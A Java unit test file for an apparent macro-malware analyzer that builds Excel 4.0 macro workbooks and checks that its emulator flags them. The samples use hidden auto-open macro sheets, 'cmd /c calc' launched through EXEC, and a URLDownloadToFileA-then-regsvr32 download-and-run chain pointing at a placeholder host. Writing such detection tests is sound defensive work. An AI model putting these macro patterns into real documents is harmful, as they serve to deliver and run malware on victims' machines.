package dev.peekaboo.analyzer;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peekaboo.Content;
import dev.peekaboo.emulation.Emulated;
import dev.peekaboo.report.EmulationReport;
import dev.peekaboo.report.MacroBook;
import dev.peekaboo.report.MacroDocument;
import dev.peekaboo.report.SandboxReport.Completeness;

import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;

/** Workbooks with macros in their cells, from their bytes to what the macros do. */
class MacroBooksTest {
    private static final int EXEC = 110;
    private static final int CHAR = 111;
    private static final int CALL = 150;
    private static final int GOTO = 53;
    private static final int HALT = 54;
    private static final int FORMULA = 0x8060;
    private static final int RUN = 0x8011;

    private static MacroDocument read(byte[] bytes) throws IOException {
        return MacroDocuments.read(new Content.InMemory(bytes));
    }

    static Stream<WorkbookWriter> writers() {
        return Stream.of(WorkbookWriter.xls(), WorkbookWriter.xlsb());
    }

    private static byte[] plain(WorkbookWriter writer) throws IOException {
        return writer.opens(0)
                .macro(0, WorkbookWriter.call(EXEC, writer.text("cmd /c calc")))
                .macro(1, WorkbookWriter.call(HALT))
                .file();
    }

    @ParameterizedTest
    @MethodSource("writers")
    void formulas_of_both_binary_kinds_become_text(WorkbookWriter writer) throws IOException {
        MacroBook book =
                read(writer.opens(2)
                                .constant(4, 1, "cmd")
                                .macro(
                                        2,
                                        WorkbookWriter.call(
                                                FORMULA,
                                                WorkbookWriter.and(
                                                        writer.data(4, 1),
                                                        WorkbookWriter.fixed(
                                                                CHAR, WorkbookWriter.whole(32))),
                                                writer.cell(9, 0)))
                                .macro(3, WorkbookWriter.fixed(GOTO, writer.cell(9, 0)))
                                .file())
                        .book();

        assertThat(book.names())
                .containsExactly(new MacroBook.Name(book.names().getFirst().name(), "'Macro1'!A3"));
        assertThat(book.names().getFirst().name()).endsWith("Auto_Open");
        MacroBook.Sheet macros = book.sheets().getFirst();
        assertThat(macros.isMacro()).isTrue();
        assertThat(macros.hidden()).isEqualTo("veryHidden");
        assertThat(macros.cells().values())
                .extracting(MacroBook.Entry::formula)
                .containsExactlyInAnyOrder("FORMULA(('Sheet1'!B5&CHAR(32)),A10)", "GOTO(A10)");
        assertThat(macros.cells()).containsOnlyKeys("A3", "A4");
        assertThat(book.sheets().get(1).cells().get("B5")).isEqualTo(MacroBook.Entry.text("cmd"));
    }

    @ParameterizedTest
    @MethodSource("writers")
    void a_program_that_is_started_is_seen(WorkbookWriter writer) throws IOException {
        EmulationReport report = Emulated.run(read(plain(writer)));

        assertThat(Emulated.ids(report))
                .as(Emulated.told(report))
                .contains("script_starts_interpreter", "macro_sheet_hidden");
        assertThat(report.completeness()).isEqualTo(Completeness.COMPLETE);
    }

    @ParameterizedTest
    @MethodSource("writers")
    void scattered_words_written_as_formulas_are_run(WorkbookWriter writer) throws IOException {
        byte[] file =
                writer.opens(0)
                        .constant(7, 3, "=EXEC(\"cmd")
                        .constant(1, 9, " /c calc\")")
                        .macro(
                                0,
                                WorkbookWriter.call(
                                        FORMULA,
                                        WorkbookWriter.and(writer.data(7, 3), writer.data(1, 9)),
                                        writer.cell(20, 0)))
                        .macro(1, WorkbookWriter.call(RUN, writer.cell(20, 0)))
                        .macro(2, WorkbookWriter.call(HALT))
                        .file();

        EmulationReport report = Emulated.run(read(file));

        assertThat(Emulated.ids(report))
                .as(Emulated.told(report))
                .contains("script_starts_interpreter", "code_in_layers");
    }

    @ParameterizedTest
    @MethodSource("writers")
    void a_download_that_is_registered_is_a_chain(WorkbookWriter writer) throws IOException {
        byte[] file =
                writer.opens(0)
                        .macro(
                                0,
                                WorkbookWriter.call(
                                        CALL,
                                        writer.text("urlmon"),
                                        writer.text("URLDownloadToFileA"),
                                        writer.text("JJCCJJ"),
                                        WorkbookWriter.whole(0),
                                        writer.text("http://files.example/a"),
                                        writer.text("C:\\a\\a.ocx"),
                                        WorkbookWriter.whole(0),
                                        WorkbookWriter.whole(0)))
                        .macro(
                                1,
                                WorkbookWriter.call(EXEC, writer.text("regsvr32 -s C:\\a\\a.ocx")))
                        .file();

        EmulationReport report = Emulated.run(read(file));

        assertThat(Emulated.ids(report)).as(Emulated.told(report)).contains("download_and_run");
    }

    @Test
    void macros_of_a_package_of_xml_are_run() throws IOException {
        EmulationReport report = Emulated.run(read(xlsm("EXEC(Sheet1!B5&amp;\" /c calc\")")));

        assertThat(Emulated.ids(report))
                .as(Emulated.told(report))
                .contains("script_starts_interpreter");
        assertThat(report.completeness()).isEqualTo(Completeness.COMPLETE);
    }

    @Test
    void a_workbook_with_the_password_everybody_knows_is_decrypted() throws IOException {
        byte[] file = OfficeFiles.lockedXls("VelvetSweatshop");

        BiffStream stream;
        try (POIFSFileSystem ole = new POIFSFileSystem(new ByteArrayInputStream(file))) {
            stream = new BiffStream(OleFile.read(ole.getRoot(), "Workbook", 1 << 20));
        }

        assertThat(stream.text(0)).isEqualTo("x");
        assertThat(stream.records())
                .as("the cell that holds it")
                .anyMatch(record -> record.kind() == 0xfd && record.data().length == 10);
    }

    private static byte[] xlsm(String formula) throws IOException {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        WorkbookWriter.relations(
                parts, "workbook.xml", "macrosheets/sheet1.xml", "worksheets/sheet1.xml");
        parts.put(
                "xl/workbook.xml",
                OfficeFiles.text(
                        "<workbook xmlns:r='r'><sheets><sheet name='Macro1' state='veryHidden' r:id='rId1'/><sheet name='Sheet1' r:id='rId2'/></sheets><definedNames><definedName name='_xlnm.Auto_Open' hidden='1'>Macro1!$A$1</definedName></definedNames></workbook>"));
        parts.put(
                "xl/macrosheets/sheet1.xml",
                OfficeFiles.text(
                        "<xm:macrosheet xmlns:xm='x'><sheetData><row r='1'><c r='A1'><f>"
                                + formula
                                + "</f></c></row><row><c t='b'><f>HALT()</f><v>0</v></c></row></sheetData></xm:macrosheet>"));
        parts.put(
                "xl/worksheets/sheet1.xml",
                OfficeFiles.text(
                        "<worksheet><sheetData><row r='5'><c r='B5' t='inlineStr'><is><t>cmd</t></is></c></row></sheetData></worksheet>"));
        return OfficeFiles.zip(parts);
    }

    @ParameterizedTest
    @MethodSource("writers")
    void damaged_workbooks_end_quietly(WorkbookWriter writer) throws IOException {
        byte[] whole = plain(writer);
        long seed = 20_260_304;
        Random random = new Random(seed);
        for (int i = 0; i < 200; i++) {
            byte[] broken = Arrays.copyOf(whole, whole.length - random.nextInt(whole.length / 4));
            for (int n = random.nextInt(20); n >= 0; n--)
                broken[random.nextInt(broken.length)] = (byte) random.nextInt();
            int round = i;
            org.assertj.core.api.Assertions.assertThatCode(() -> read(broken))
                    .as("round %d of seed %d", round, seed)
                    .doesNotThrowAnyException();
        }
    }

    @Test
    void a_workbook_without_macro_sheets_is_none() throws IOException {
        assertThat(read(OfficeFiles.xls())).isEqualTo(MacroDocument.NONE);
    }
}
